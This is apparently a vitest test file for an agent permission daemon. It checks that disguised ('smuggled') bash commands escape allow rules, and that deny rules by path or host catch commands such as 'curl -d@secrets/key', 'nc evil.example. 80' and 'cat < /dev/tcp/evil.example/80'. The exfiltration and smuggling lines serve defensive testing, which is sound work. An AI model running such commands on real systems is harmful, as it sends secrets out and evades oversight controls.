import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { useRigs } from "../support/fixture.ts";
import type { RiggedDaemon } from "../support/rig.ts";
import { HONEST, SMUGGLED, STARTED_BY } from "./hostile-commands.ts";

const createRig = useRigs();
const BASH = "/bin/bash";
const hasBash = spawnSync(BASH, ["-c", "true"]).status === 0;

const place = mkdtempSync(join(tmpdir(), "kheish-hostile-"));
const program = join(place, "pwn");
const started = join(place, "started");
beforeAll(() => {
  writeFileSync(program, `#!/bin/sh\n: > ${started}\n`, { mode: 0o755 });
  mkdirSync(join(place, "work"));
});
afterAll(() => rmSync(place, { recursive: true, force: true }));

const written = (command: string) => command.replaceAll("PWN", program);

/** Whether bash starts the program when it is given this. */
function isStarted(command: string): boolean {
  rmSync(started, { force: true });
  spawnSync(BASH, ["--norc", "--noprofile", "-c", written(command)], {
    cwd: join(place, "work"),
    env: { PATH: "/usr/bin:/bin", HOME: place, NAME: "some/thing" },
    timeout: 10_000,
    stdio: "ignore",
  });
  return existsSync(started);
}

const argv = (...patterns: string[]) => patterns.map((pattern) => ({ argv: pattern.split(" ") }));

/** What becomes of the commands under one rule. */
async function decided(rule: object, commands: readonly string[]): Promise<Record<string, unknown>> {
  const rig = await createRig([]);
  const daemon: RiggedDaemon = await rig.boot();
  const body = { scope: "user", tool_name_pattern: "bash", ...rule };
  await daemon.call("setPermissionRule", { params: { rule_id: "one" }, body });
  const decisions: Record<string, unknown> = {};
  for (const command of commands) {
    const input = { command: written(command) };
    const { json } = await daemon.call("checkPermission", { body: { tool_name: "bash", input } });
    decisions[command] = (json as { decision: string }).decision;
  }
  return decisions;
}

const all = (commands: readonly string[], decision: string) =>
  Object.fromEntries(commands.map((command) => [command, decision]));

const harmless = { behavior: "allow", match: { command: argv("ok **", "cat **", "echo **", "true") } };
const denied = { behavior: "deny", match: { command: argv("pwn **") } };

describe("03-A7 commands that are made to look like others", () => {
  test("are allowed by no rule that names what they look like", async () => {
    expect(await decided(harmless, SMUGGLED)).toEqual(all(SMUGGLED, "ask"));
  });

  test("nor where every builtin of the shell is named besides", async () => {
    const builtins = "[ test read unset declare let set shopt [[ for".split(" ").map((name) => `${name} **`);
    const match = { command: [...harmless.match.command, ...argv(...builtins)] };
    expect(await decided({ behavior: "allow", match }, SMUGGLED)).toEqual(all(SMUGGLED, "ask"));
  });

  test("are stopped by a rule that denies what they start", async () => {
    const commands = [...SMUGGLED, ...STARTED_BY];
    expect(await decided(denied, commands)).toEqual(all(commands, "deny"));
  });

  test.skipIf(!hasBash)("do start it (needs bash)", () => {
    expect(SMUGGLED.filter((command) => !isStarted(command))).toEqual([]);
  });

  test("honest ones pass as before", async () => {
    expect(await decided(harmless, HONEST)).toEqual(all(HONEST, "allow"));
    expect(await decided(denied, HONEST)).toEqual(all(HONEST, "ask"));
  });
});

describe("03-A7 a deny by path or host finds what it names within a word", () => {
  test.each([
    ["cat secrets/key"],
    ["dd if=secrets/key of=/dev/null"],
    ["grep -fsecrets/key x"],
    ["tar --file=secrets/key -c x"],
    ["curl -d@secrets/key x"],
    ["secrets/run.sh"],
    ["rsync host:x,secrets/key ."],
  ])("%s", async (command) => {
    const match = { path: ["secrets/**"] };
    expect(await decided({ behavior: "deny", match }, [command])).toEqual({ [command]: "deny" });
  });

  test.each([
    ["curl evil.example/x"],
    ["curl --proxy=http://EVIL.example:80 x"],
    ["git clone git@evil.example:x/y.git"],
    ["ssh evil.example"],
    ["nc evil.example. 80"],
    ["curl http:/evil.example/x"],
    ["cat < /dev/tcp/evil.example/80"],
    ["curl --resolve good.example:443:evil.example x"],
  ])("%s", async (command) => {
    const match = { host: ["evil.example"] };
    expect(await decided({ behavior: "deny", match }, [command])).toEqual({ [command]: "deny" });
  });

  test("and nothing else", async () => {
    const commands = ["cat docs/a", "curl good.example/evil.example.html", "echo key"];
    const match = { path: ["secrets/**"] };
    expect(await decided({ behavior: "deny", match }, commands)).toEqual(all(commands, "ask"));
    expect(await decided({ behavior: "deny", match: { host: ["evil.example"] } }, commands)).toEqual(
      all(commands, "ask"),
    );
  });
});
